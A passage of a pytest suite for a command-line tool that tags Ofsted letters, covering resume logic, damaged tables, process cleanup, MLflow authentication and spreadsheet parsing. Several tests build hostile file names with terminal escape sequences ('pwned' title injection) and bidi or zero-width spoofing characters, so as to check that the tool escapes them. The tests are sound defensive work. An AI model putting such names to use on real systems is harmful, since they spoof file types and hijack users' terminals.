    out = tmp_path / "o" / ("t" * 226 + ".csv")
    done = tag(tagger_file, out, letters)
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert "a name of 230 bytes: at most 200" in done.stderr
    assert not (tmp_path / "o").exists() or not list((tmp_path / "o").iterdir())


def test_an_output_under_a_file_is_refused_with_the_reason(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    normal_letter(letters)
    (tmp_path / "notes.csv").write_text("text\n")
    done = tag(tagger_file, tmp_path / "notes.csv" / "tags.csv", letters)
    assert done.returncode == 2
    assert f"{tmp_path / 'notes.csv'} is a file, not a folder" in done.stderr
    assert "permission denied" not in done.stderr


def test_a_file_that_gives_nothing_is_named_as_the_tag_table_names_letters(tagger_file, tmp_path):
    """The failures table and the tag table name one folder's files alike (from the folder the
    run started in), however the folder was given."""
    letters = tmp_path / "letters"
    normal_letter(letters)
    (letters / "notes.rtf").write_text("{\\rtf1 not read}")
    (letters / "broken.pdf").write_bytes(b"not a pdf")
    out = tmp_path / "out" / "tags.csv"
    given = os.path.relpath(letters, ROOT)  # ../../tmp/... from the project's folder
    assert tag(tagger_file, out, given).returncode == 1
    failed = read_table(out.with_name("failures.csv"))["file"].tolist()
    assert sorted(failed) == [str(letters / "broken.pdf"), str(letters / "notes.rtf")]
    assert documents(out) == {str(letters / "normal.txt")}
    # named, and inside a named folder: one file, one failure
    assert tag(tagger_file, out, given, letters / "notes.rtf").returncode == 1
    assert len(read_table(out.with_name("failures.csv"))) == 2


def test_non_utf8_file_names_are_tagged_and_listed(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    normal_letter(letters)
    folder = os.fsencode(letters)
    Path(os.fsdecode(folder + b"/caf\xe9.txt")).write_text("Managers check the plans.\n")
    Path(os.fsdecode(folder + b"/bad\xff.pdf")).write_bytes(b"not a pdf")
    out = tmp_path / "out" / "tags.csv"
    done = tag(tagger_file, out, letters)
    assert done.returncode == 1, done.stderr
    assert any(d.endswith("caf\\xe9.txt") for d in documents(out))
    failures = read_table(out.with_name("failures.csv"))
    assert failures["file"].str.endswith("bad\\xff.pdf").all()


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_name_with_a_control_character_is_written_escaped_and_resumed_once(
    tagger_file, tmp_path, suffix
):
    """A workbook cannot hold a control character: the name is written with it as ``\\x07`` in
    every format, so ``--resume`` finds the letter done (not tagged twice), in a file name and
    in a table's document column alike."""
    letters = tmp_path / "letters"
    normal_letter(letters)
    lf.make_text_letter(letters / "bell\x07.txt", "focused_visit")
    table = letters / "rows.csv"
    table.write_text("document,text\nrow\x07one,Managers check plans.\nplain,Caseloads are high.\n")
    out = tmp_path / "out" / f"tags{suffix}"
    summary = out.with_name(f"letters{suffix}")
    options = ["--model", tagger_file, "--out", out, "--summary", summary, "--no-report"]
    assert tag_here(letters, *options).returncode == 0
    first = read_table(out)
    names = set(first["document"])
    assert any(n.endswith("bell\\x07.txt") for n in names)
    assert any(n.endswith("rows.csv::row\\x07one") for n in names)
    assert not any("\x07" in n for n in names)
    again = tag_here(letters, *options, "--resume")
    assert again.returncode == 0, again.stderr
    assert "not among this run's inputs" not in again.stdout + again.stderr
    assert len(read_table(out)) == len(first)
    assert read_table(summary)["document"].is_unique


def test_a_name_with_bidi_or_zero_width_characters_is_shown_and_written_escaped(
    tagger_file, tmp_path
):
    """A right-to-left override showed "letter\u202efdp.txt" as "lettertxt.pdf", and a
    zero-width space made a name look like another: both were printed and written raw."""
    letters = tmp_path / "letters"
    normal_letter(letters)
    lf.make_text_letter(letters / "letter\u202efdp.txt", "focused_visit")
    (letters / "zero\u200bwidth\u2066.doc").write_text("not read")
    out = tmp_path / "out" / "tags.csv"
    options = ["--model", tagger_file, "--out", out]
    done = tag_here(letters, *options)
    assert done.returncode == 1, done.stderr
    written = [out, *(out.with_name(n) for n in ("letters.csv", "failures.csv", "report.html"))]
    for text in [done.stdout + done.stderr, *(p.read_text() for p in written)]:
        assert not re.search("[\u202e\u200b\u2066]", text)
    assert any(d.endswith("letter\\u202efdp.txt") for d in documents(out))
    failures = read_table(out.with_name("failures.csv"))
    assert failures["file"].str.endswith("zero\\u200bwidth\\u2066.doc").all()
    for table in written[:2]:  # as earlier versions wrote the name: resumed once, not twice
        table.write_text(table.read_text().replace("\\u202e", "\u202e"))
    again = tag_here(letters, *options, "--resume")
    assert "2 already tagged, skipped" in again.stdout, again.stdout + again.stderr


def test_two_files_whose_names_are_written_alike_are_never_taken_for_one(tagger_file, tmp_path):
    """A newline in one name and the characters \\n in another are written alike: the second
    fails by name, resumed or not, never skipped as if it had been tagged."""
    letters = tmp_path / "letters"
    letters.mkdir()
    lf.make_text_letter(letters / "two\\nlines.txt", "focused_visit")
    lf.make_text_letter(letters / "two\nlines.txt", "jtai")
    out = tmp_path / "out" / "tags.csv"
    options = ["--model", tagger_file, "--out", out, "--no-report"]
    assert tag_here(letters / "two\\nlines.txt", *options).returncode == 0
    again = tag_here(letters, *options, "--resume")
    assert again.returncode == 1, again.stdout + again.stderr
    assert "1 already tagged, skipped" in again.stdout
    [failure] = read_table(out.with_name("failures.csv")).itertuples()
    assert failure.file.endswith("two\\nlines.txt") and "same name" in failure.reason
    fresh = tag_here(letters, *options)
    assert fresh.returncode == 1 and len(read_table(out.with_name("letters.csv"))) == 1


def test_outputs_of_a_version_that_wrote_control_characters_resume_without_repeats(
    tagger_file, tmp_path
):
    """Earlier versions wrote a name's control characters as they were: resumed, those letters
    are found done, not tagged again."""
    letters = tmp_path / "letters"
    normal_letter(letters)
    lf.make_text_letter(letters / "bell\x07.txt", "focused_visit")
    out = tmp_path / "out" / "tags.csv"
    options = ["--model", tagger_file, "--out", out, "--no-report"]
    assert tag_here(letters, *options).returncode == 0
    for table in (out, out.with_name("letters.csv")):  # as the earlier version wrote them
        table.write_text(table.read_text().replace("bell\\x07", "bell\x07"))
    rows = len(read_table(out))
    again = tag_here(letters, *options, "--resume")
    assert again.returncode == 0, again.stderr
    assert "2 already tagged, skipped" in again.stdout
    assert len(read_table(out)) == rows


def test_a_size_just_over_a_limit_is_told_apart_from_the_limit():
    from ofsted_themes.core.limits import megabytes

    assert megabytes(10_040_000) == "10.04 MB" != megabytes(10_000_000) == "10 MB"
    assert megabytes(301_456_000) == "301 MB"  # far over: whole megabytes say it


def test_resume_from_another_folder_tags_nothing_twice(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    normal_letter(letters)
    lf.make_text_letter(letters / "second.txt", "focused_visit")
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, "letters", cwd=tmp_path).returncode == 0
    first = read_table(out)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    done = tag(tagger_file, out, letters, "--resume", cwd=elsewhere)
    assert done.returncode == 0, done.stderr
    assert "2 already tagged, skipped" in done.stdout
    assert len(read_table(out)) == len(first)


def test_resume_never_repeats_a_letter_without_sentences(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    normal_letter(letters)
    (letters / "headings.txt").write_text("Annex A\nContents\n")  # no sentence at all
    out = tmp_path / "out" / "tags.csv"
    for _ in range(3):
        assert tag(tagger_file, out, letters, "--resume").returncode == 0
    summary = read_table(out.with_name("letters.csv"))
    assert sorted(summary["document"].str.rsplit("/", n=1).str[-1]) == [
        "headings.txt",
        "normal.txt",
    ]


DAMAGED_CSV = {  # what a damaged CSV table ends with
    "unclosed quote": 'x,"never closed\n' + "y" * 100,
    "a row of extra fields": "x," * 40 + "x\n",
    "bytes that are not UTF-8 in a text": "x.pdf,Leeds,2023,1,1,caf\xe9\n",
}


@pytest.mark.parametrize("damage", [*DAMAGED_CSV, "cut short", "workbook cut short"])
def test_resume_onto_a_damaged_table_is_refused_with_the_outputs_as_they_were(
    tagger_file, tmp_path, damage
):
    """Damage anywhere in a table, not only in the column naming its letters, refuses it."""
    letters = tmp_path / "letters"
    normal_letter(letters)
    name = "tags.csv" if damage in DAMAGED_CSV else "tags.parquet"
    out = tmp_path / "out" / ("tags.xlsx" if damage == "workbook cut short" else name)
    assert tag(tagger_file, out, letters).returncode == 0
    if damage in DAMAGED_CSV:
        out.write_bytes(out.read_bytes() + DAMAGED_CSV[damage].encode("latin-1"))
    else:
        out.write_bytes(out.read_bytes()[:100])
    before = hashes(out.parent)
    done = tag(tagger_file, out, letters, "--resume")
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    said = f"--resume: {out} is not UTF-8" if "UTF-8" in damage else "--resume: cannot read"
    assert said in done.stderr
    assert hashes(out.parent) == before


@pytest.mark.parametrize("name", ["tags.csv", "tags.jsonl", "tags.xlsx"])
def test_resume_onto_a_table_without_its_document_column_is_refused(tagger_file, tmp_path, name):
    """A tag table whose document column was deleted (or renamed "Document") stopped a resume
    with a ValueError."""
    letters = tmp_path / "letters"
    normal_letter(letters)
    out = tmp_path / "out" / name
    assert tag(tagger_file, out, letters).returncode == 0
    write_table(read_table(out).drop(columns=["document"]), out)
    before = hashes(out.parent)
    done = tag(tagger_file, out, letters, "--resume")
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert f"{out.name} has no document column" in done.stderr
    assert hashes(out.parent) == before


def _two_letters(tmp_path: Path) -> Path:
    letters = tmp_path / "letters"
    normal_letter(letters)
    lf.make_text_letter(letters / "other.txt", "focused_visit")
    return letters


@pytest.mark.parametrize("change", ["summary named elsewhere", "summary gone", "tag table gone"])
def test_resume_without_the_earlier_runs_other_table_is_refused(tagger_file, tmp_path, change):
    """Resumed with only one of the two tables, a run wrote a summary of its new letters alone
    (the earlier ones dropped from every count), or an empty tag table beside full counts."""
    letters = _two_letters(tmp_path)
    out = tmp_path / "out" / "tags.csv"
    summary = out.with_name("letters.csv")
    elsewhere = {"summary": str(out.with_name("summary-2023.csv"))}
    first = elsewhere if change == "summary named elsewhere" else {}
    assert tag(tagger_file, out, letters, **first).returncode == 0
    if change == "summary gone":
        summary.unlink()
    if change == "tag table gone":
        out.unlink()
    (letters / "new.txt").write_text("Leaders know their services well.\n")
    before = hashes(out.parent)
    done = tag(tagger_file, out, letters, "--resume")
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert "holds 2 letters" in done.stderr and "is not there" in done.stderr
    named = "tag table with --out" if change == "tag table gone" else "summary with --summary"
    assert f"name the earlier run's {named}" in done.stderr
    assert hashes(out.parent) == before


@pytest.mark.parametrize(
    ("column", "says"), [("sentences", "sentences in letters.csv"), ("cse_share", "a cse_share")]
)
def test_resume_onto_a_summary_that_does_not_match_its_tag_table_is_refused(
    tagger_file, tmp_path, column, says
):
    letters = _two_letters(tmp_path)
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, letters).returncode == 0
    summary = out.with_name("letters.csv")
    edited = pd.read_csv(summary)
    edited.loc[0, column] += 40 if column == "sentences" else 0.5  # edited by hand
    edited[column] = edited[column].astype(float)  # saved by a spreadsheet: 43.0
    edited.to_csv(summary, index=False)
    before = hashes(out.parent)
    done = tag(tagger_file, out, letters, "--resume")
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert "does not match" in done.stderr and says in done.stderr
    if column == "sentences":  # as counted, not as a spreadsheet's number reads back (43.0)
        assert re.search(r": \d+ sentences in letters.csv, \d+ in tags.csv", done.stderr)
    assert hashes(out.parent) == before


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl", ".parquet"])
def test_resume_accepts_every_output_a_run_writes(tagger_file, tmp_path, suffix):
    """The agreement of the two tables is checked on what the tool itself writes: a letter of
    no sentence (an empty Parquet table read back with text columns was a traceback), a
    table's letters, a name holding a character a workbook cannot."""
    letters = tmp_path / "letters"
    (letters / "headings.txt").parent.mkdir(parents=True)
    (letters / "headings.txt").write_text("Annex A\nContents\n")  # no sentence at all
    out = tmp_path / "out" / f"tags{suffix}"
    assert tag(tagger_file, out, letters).returncode == 0  # tag table of no row
    normal_letter(letters)
    (letters / "odd\ufffe.txt").write_text("Caseloads are too high for social workers.\n")
    (letters / "t.csv").write_text("document,text\na,Plans improve.\n,Visits are late.\n")
    assert tag(tagger_file, out, letters, "--resume").returncode == 0
    done = tag(tagger_file, out, letters, "--resume")
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert "5 already tagged, skipped" in done.stdout
    assert len(read_table(out.with_name("letters.csv"))) == 5


def test_resume_knows_the_names_an_earlier_version_wrote():
    from ofsted_themes.tagging.batch import named_now

    assert named_now("t.csv::") == "t.csv"  # a table's rows naming no letter
    assert named_now("bell\x07.pdf") == "bell\\x07.pdf"  # a control character, written raw
    assert named_now("t.csv::a") == "t.csv::a"
    assert named_now("t.csv::A::") == "t.csv::A::"  # a letter named "A::" is no blank name


def test_resume_onto_a_summary_without_its_document_column_is_refused(tagger_file, tmp_path):
    letters = _two_letters(tmp_path)
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, letters).returncode == 0
    summary = out.with_name("letters.csv")
    pd.read_csv(summary).drop(columns="document").to_csv(summary, index=False)
    done = tag(tagger_file, out, letters, "--resume")
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert "letters.csv has no document column" in done.stderr


def test_an_output_name_that_is_not_utf8_is_written(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    normal_letter(letters)
    out = tmp_path / "o" / "t\udcff.csv"  # the byte 0xff, as Python names it
    done = tag(tagger_file, out, letters)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert out.exists()


def test_resume_warns_of_a_letter_the_same_as_an_earlier_one(tagger_file, tmp_path):
    """Tagged fresh, two copies of one letter are warned of; resumed with the copy (the folder
    moved, say), the copy was counted again without a word."""
    letters = tmp_path / "letters"
    normal_letter(letters)
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, letters).returncode == 0
    moved = tmp_path / "moved"
    moved.mkdir()
    (moved / "normal.txt").write_bytes((letters / "normal.txt").read_bytes())
    done = tag(tagger_file, out, moved, "--resume")
    assert done.returncode == 0, done.stderr
    assert "very same sentences" in done.stderr
    report = out.with_name("report.html").read_text(encoding="utf-8")
    assert "very same sentences" in report
    assert "1 letter kept from earlier runs and counted, whose files the last run" in report


def test_resume_with_another_model_is_refused(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    normal_letter(letters)
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, letters).returncode == 0
    before = hashes(tmp_path / "out")
    done = tag(tagger_file, out, letters, "--resume", threshold="cse=0.9")
    assert done.returncode == 2
    assert "written by another model or other thresholds" in done.stderr
    assert hashes(tmp_path / "out") == before


@pytest.mark.parametrize("marker", ["missing", "damaged"])
def test_resume_without_the_record_of_the_model_is_refused(tagger_file, tmp_path, marker):
    """Outputs copied with ``cp dir/*`` (no hidden marker), or a damaged marker, were resumed
    with other thresholds unsaid: the table's letters tagged two ways, its counts mixed."""
    letters = tmp_path / "letters"
    normal_letter(letters)
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, letters).returncode == 0
    hidden = out.with_name(".tags.csv.commit.json")
    hidden.unlink() if marker == "missing" else hidden.write_text("{garbage")
    before = hashes(tmp_path / "out")
    done = tag(tagger_file, out, letters, "--resume", threshold="cse=0.9")
    assert done.returncode == 2
    assert "nothing records the model that wrote" in done.stderr and "tag again" in done.stderr
    assert hashes(tmp_path / "out") == before


# --- 5. terminal-safe printing -----------------------------------------------------------------


def test_escape_sequences_in_names_never_reach_the_terminal(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    normal_letter(letters)
    (letters / "\x1b[2J\x1b]0;pwned\x07.pdf").write_bytes(b"not a pdf")
    done = tag(tagger_file, tmp_path / "out" / "tags.csv", letters)
    assert done.returncode == 1
    assert "\x1b" not in done.stderr + done.stdout and "\x07" not in done.stderr
    assert "\\x1b[2J" in done.stderr


def test_a_newline_in_a_file_name_keeps_its_failure_on_one_row(tagger_file, tmp_path):
    letters = tmp_path / "letters"
    normal_letter(letters)
    (letters / "two\nlines.pdf").write_bytes(b"not a pdf")
    done = tag(tagger_file, tmp_path / "out" / "tags.csv", letters)
    [row] = [line for line in done.stderr.splitlines() if "lines.pdf" in line]
    assert "two\\nlines.pdf" in row and "not a PDF" in row


# --- 6. processes and temporary files ----------------------------------------------------------


def many_letters(folder: Path, n: int) -> Path:
    folder.mkdir(parents=True)
    for i in range(n):
        lf.make_text_letter(folder / f"letter_{i:03d}.txt", ["jtai", "focused_visit"][i % 2])
    (folder / "slow.txt").write_text("a. " * 1_000_000)  # seconds to split: the batch is busy
    return folder


def children_of(pid: int) -> list[int]:
    found = subprocess.run(["pgrep", "-P", str(pid)], capture_output=True, text=True)
    return [int(p) for p in found.stdout.split()]


def wait_gone(pids: list[int], seconds: float = 15) -> list[int]:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        alive = [p for p in pids if Path(f"/proc/{p}").exists() and "Z" not in _state(p)]
        if not alive:
            return []
        time.sleep(0.2)
    return alive


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0]
    except OSError:
        return "Z"


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize(
    "how", [signal.SIGKILL, signal.SIGTERM, "ctrl-c"], ids=["kill -9", "kill", "ctrl-c"]
)
def test_a_killed_tag_leaves_no_worker_and_its_outputs_as_they_were(tagger_file, tmp_path, how):
    letters = many_letters(tmp_path / "letters", 40)
    out = tmp_path / "out" / "tags.csv"
    assert tag(tagger_file, out, letters / "letter_000.txt").returncode == 0
    before = hashes(tmp_path / "out")
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
    process = subprocess.Popen(
        [sys.executable, "-m", "tag", str(letters), "--model", str(tagger_file), "--out",
         str(out), "--no-report", "--jobs", "2"],
        cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
        start_new_session=True,  # a group of its own, as a terminal gives a command
    )  # fmt: skip
    deadline = time.monotonic() + 60
    while len(children_of(process.pid)) < 2 and time.monotonic() < deadline:
        time.sleep(0.1)
    workers = children_of(process.pid)
    assert workers, "the batch never started its workers"
    time.sleep(1)
    if how == "ctrl-c":  # the terminal sends it to every process of the group
        os.killpg(process.pid, signal.SIGINT)
    else:
        process.send_signal(how)
    _, err = process.communicate(timeout=60)
    assert not wait_gone(workers), "a worker outlived its batch"
    kept = {k: v for k, v in hashes(tmp_path / "out").items() if ".tmp" not in k}
    assert kept == before  # the outputs as they were
    if how != signal.SIGKILL:
        assert process.returncode == 130 and "Traceback" not in err, err
        assert not leftovers(tmp_path / "out")
    else:  # nothing can clean up after kill -9: the next run removes what it left
        assert tag(tagger_file, out, letters / "letter_000.txt").returncode == 0
        assert not leftovers(tmp_path / "out")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_ctrl_c_in_a_first_run_on_two_workers_keeps_whole_letters_that_resume_completes(
    tagger_file, tmp_path
):
    """Ctrl-C arrives between two letters' writes, never within one: what a first run kept is
    each letter whole, as an uninterrupted run writes it, and --resume adds the rest once."""
    letters = tmp_path / "letters"
    letters.mkdir()
    for i in range(200):  # over BUFFERED_ROWS sentences: rows reach the file before the end
        lf.make_text_letter(letters / f"letter_{i:03d}.txt", ["jtai", "focused_visit"][i % 2])
    (letters / "zz_slow.txt").write_text("a. " * 3_000_000)  # last, and seconds to split
    out = tmp_path / "out" / "tags.csv"
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
    process = subprocess.Popen(
        [sys.executable, "-m", "tag", str(letters), "--model", str(tagger_file), "--out",
         str(out), "--no-report", "--jobs", "2"],
        cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
        start_new_session=True,
    )  # fmt: skip
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and process.poll() is None:
        staged = [p for p in out.parent.glob("*.tmp")] if out.parent.exists() else []
        if any(p.stat().st_size for p in staged):
            break  # letters written: the slow one is still being split
        time.sleep(0.05)
    workers = children_of(process.pid)
    os.killpg(process.pid, signal.SIGINT)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 130 and "Traceback" not in err, err
    assert "tagged before it are in the outputs" in err, err
    assert not wait_gone(workers) and not leftovers(tmp_path / "out")
    whole = tmp_path / "whole" / "tags.csv"
    assert tag(tagger_file, whole, letters, time_limit="1").returncode == 1  # the slow one fails
    expected = read_table(whole)
    kept = read_table(out)
    assert 0 < kept["document"].nunique() < 200
    mine = expected[expected["document"].isin(set(kept["document"]))].reset_index(drop=True)
    pd.testing.assert_frame_equal(kept, mine)  # each letter whole, as tagged
    assert tag(tagger_file, out, letters, "--resume", time_limit="1").returncode == 1
    pd.testing.assert_frame_equal(read_table(out), expected)


# --- 7. the MLflow UI with logins --------------------------------------------------------------


def test_the_ui_with_auth_refuses_anonymous_requests(tmp_path):
    pytest.importorskip("flask_wtf", reason="the auth extra: make ui AUTH=1 installs it")
    import socket
    import urllib.error
    import urllib.request

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
    env |= {"MLFLOW_AUTH_ADMIN_PASSWORD": "correct-horse-battery", "MLFLOW_FLASK_SERVER_SECRET_KEY":
            "test", "MLFLOW_SERVER_ENABLE_JOB_EXECUTION": "false"}  # fmt: skip
    server = subprocess.Popen(  # the server `make ui AUTH=1` starts
        [sys.executable, "-m", "mlflow", "server", "--backend-store-uri",
         f"sqlite:///{tmp_path / 'mlflow.db'}", "--host", "127.0.0.1", "--port", str(port),
         "--workers", "1", "--app-name", "basic-auth"],
        cwd=tmp_path, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        start_new_session=True,
    )  # fmt: skip
    url = f"http://127.0.0.1:{port}/api/2.0/mlflow/experiments/search?max_results=1"

    def status(password: str | None) -> int:
        request = urllib.request.Request(url)
        if password:
            import base64

            token = base64.b64encode(f"admin:{password}".encode()).decode()
            request.add_header("Authorization", f"Basic {token}")
        try:
            return urllib.request.urlopen(request, timeout=5).status
        except urllib.error.HTTPError as error:
            return error.code

    try:
        deadline = time.monotonic() + 120
        while True:
            try:
                first = status(None)
                break
            except (urllib.error.URLError, ConnectionError, TimeoutError):
                assert time.monotonic() < deadline and server.poll() is None, "no server"
                time.sleep(0.5)
        assert first == 401
        assert status("wrong password") == 401
        assert status("correct-horse-battery") == 200
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        server.wait(timeout=30)


def test_train_keeps_the_saved_tagger_when_mlflow_cannot_record_the_run(tmp_path):
    model = tmp_path / "tagger.skops"
    model.write_bytes(b"the previous tagger")
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
    env |= {"MLFLOW_TRACKING_URI": "http://127.0.0.1:9", "MLFLOW_HTTP_REQUEST_MAX_RETRIES": "0",
            "MLFLOW_HTTP_REQUEST_TIMEOUT": "5"}  # nothing listens on port 9  # fmt: skip
    done = subprocess.run(
        [sys.executable, "-m", "train", "data=seeds", f"output.model={model}",
         f"output.metrics={tmp_path / 'metrics.json'}", f"output.pr_curves={tmp_path / 'pr'}",
         f"hydra.run.dir={tmp_path / 'hydra'}"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode == 2
    assert "MLflow could not record the run" in done.stderr and "Traceback" not in done.stderr
    assert model.read_bytes() == b"the previous tagger"
    assert not leftovers(tmp_path)


# --- tables as people make them (the second hostile-file trial) ------------------------------


def workbook(path: Path, sheets: dict[str, list[list]]) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    book.save(path)
    return path


def test_every_sheet_of_a_workbook_is_read_each_a_letter(tagger_file, tmp_path):
    source = workbook(tmp_path / "councils.xlsx", {
        "Leeds": [["text"], ["Caseloads are too high for workers."]],
        "York": [["text"], ["Managers do not oversee plans well."]]})  # fmt: skip
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "tags.csv"
    done = tag(tagger_file, out, source)
    assert done.returncode == 0, done.stderr
    rows = pd.read_csv(out)
    assert set(rows["document"]) == {f"{source}::Leeds", f"{source}::York"}  # before: Leeds only
    assert len(rows) == 2


def test_a_sheet_named_as_another_sheets_document_fails_its_workbook(tmp_path):
    from ofsted_themes.tagging.letters import InputError, read_sentence_table

    source = workbook(tmp_path / "sheets.xlsx", {
        "Leeds": [["text"], ["Caseloads are high."]],
        "Others": [["document", "text"], ["Leeds", "Managers oversee plans."]]})  # fmt: skip
    with pytest.raises(InputError, match="sheet 'Leeds' is a letter"):  # before: one letter
        read_sentence_table(source, "sheets.xlsx", "text")


def test_a_workbooks_na_like_cells_are_text_as_a_csvs_are(tmp_path):
    from ofsted_themes.tagging.letters import read_sentence_table

    names = ["1", "1.0", "nan", "NA", "None", "N/A"]
    source = workbook(tmp_path / "na.xlsx", {"s": [["document", "text"],
                                                   *([n, f"Sentence {n}."] for n in names),
                                                   ["N/A", "N/A"]]})  # fmt: skip
    letters = read_sentence_table(source, "na.xlsx", "text")
    # before: "nan", "NA", "None" and "N/A" were one blank letter, and a text "N/A" was dropped
    assert [lt.document for lt in letters] == [f"na.xlsx::{n}" for n in names]
    assert list(letters[-1].sentences["text"]) == ["Sentence N/A.", "N/A"]


@pytest.mark.parametrize(
    ("members", "says"),
    [
        ({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"},
         "an OpenDocument spreadsheet (.ods) named .xlsx"),
        ({"[Content_Types].xml": "<x/>", "xl/workbook.bin": "\x00"},
         "a binary Excel workbook (.xlsb) named .xlsx"),
        ({"notes.txt": "x"}, "not an Excel workbook named .xlsx"),
    ],
    ids=["ods", "xlsb", "other zip"],
)  # fmt: skip
def test_another_kind_of_spreadsheet_named_xlsx_fails_alone_with_what_to_do(
    tagger_file, tmp_path, members, says
):
    """pandas chose a reader by the bytes, one not installed: its ImportError stopped the run,
    every good letter's tags unwritten."""
    letters = tmp_path / "in"
    normal_letter(letters)
    with zipfile.ZipFile(letters / "book.xlsx", "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    done = tag(tagger_file, tmp_path / "out" / "tags.csv", letters, jobs="1")
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    (line,) = failure_lines(done, "book.xlsx")
    assert says in line and "save it as .xlsx or .csv" in line
    assert len(read_table(tmp_path / "out" / "tags.csv")) > 0  # the good letter is tagged


def test_noncharacters_in_a_text_are_left_out_of_a_workbook_not_the_run(tagger_file, tmp_path):
    letters = tmp_path / "in"
    normal_letter(letters)
    (letters / "odd.txt").write_text(
        "Children who go missing \ufffe get return home \uffff visits.\n"
    )
    out = tmp_path / "out" / "tags.xlsx"
    done = tag(tagger_file, out, letters)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    texts = read_table(out)["text"]
    assert "Children who go missing  get return home  visits." in set(texts)


def test_a_tables_letter_whose_rows_disagree_is_warned_of(tagger_file, tmp_path):
    """One row's typo moved a whole letter to 'unknown' in every roll-up, without a word."""
    letters = tmp_path / "in"
    letters.mkdir()
    (letters / "t.csv").write_text(
        "document,council,year,text\n"
        "A,Leeds,2021,Caseloads are too high.\nA,Leeds,2021,Plans improve.\n"
        "A,Bradford,2021,Visits are late.\nB,York,2021,Managers check plans.\n"
    )
    out = tmp_path / "out" / "tags.csv"
    done = tag(tagger_file, out, letters)
    assert done.returncode == 0, done.stderr
    warning = "1 letter of tables whose rows name more than one value of a column"
    assert warning in done.stderr and "t.csv::A (council)" in done.stderr
    report = out.with_name("report.html").read_text(encoding="utf-8")
    assert warning in report and "t.csv::A (council)" in report
    summary = read_table(out.with_name("letters.csv")).set_index("document")
    assert summary["council"].tolist() == ["", "York"]  # A left blank
    meta = tmp_path / "meta.csv"
    meta.write_text("document,council\nt.csv::A,Leeds\n")
    fixed = tag(tagger_file, tmp_path / "fixed" / "tags.csv", letters, meta=str(meta))
    assert fixed.returncode == 0 and warning not in fixed.stderr  # corrected: nothing to warn of


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_workbooks_hidden_sheets_are_not_read(tmp_path, state):
    """Excel does not show them (an old draft, a lookup table): they were tagged as letters,
    or failed the workbook for want of a text column the user could not see."""
    from openpyxl import load_workbook

    from ofsted_themes.tagging.letters import read_sentence_table

    source = workbook(tmp_path / "book.xlsx", {
        "2023": [["text"], ["Caseloads are too high for workers."]],
        "Old draft": [["text"], ["Children go missing from care."]],
        "Lookup": [["code", "meaning"], ["1", "yes"]]})  # fmt: skip
    book = load_workbook(source)
    book["Old draft"].sheet_state = state
    book["Lookup"].sheet_state = state
    book.save(source)
    letters = read_sentence_table(source, "book.xlsx", "text")
    assert [lt.document for lt in letters] == ["book.xlsx"]
    assert list(letters[0].sentences["text"]) == ["Caseloads are too high for workers."]


def test_a_workbooks_merged_cells_fill_the_rows_they_span(tmp_path):
    """A council's name written once over its rows (merged cells, as people lay out a table)
    named the council of the first row only: the rest were counted as a letter of no council.
    A sentence merged over two rows stays one sentence."""
    from openpyxl import load_workbook

    from ofsted_themes.tagging.letters import read_sentence_table

    source = workbook(tmp_path / "book.xlsx", {"findings": [
        ["council", "year", "text"],
        ["Leeds", 2022, "Caseloads are too high for workers."],
        [None, None, "Children who go missing are offered interviews."],
        [None, None, "Managers do not check the quality of plans."],
        ["York", 2021, "Leaders know the quality of practice well."],
        [None, None, "Some children wait too long for help."],
        [None, None, None],  # a blank row inside York's range: still not a sentence
        [None, None, "Plans are reviewed on time."],
        ["Hartlepool", 2023, "Workers value their supervision."]]})  # fmt: skip
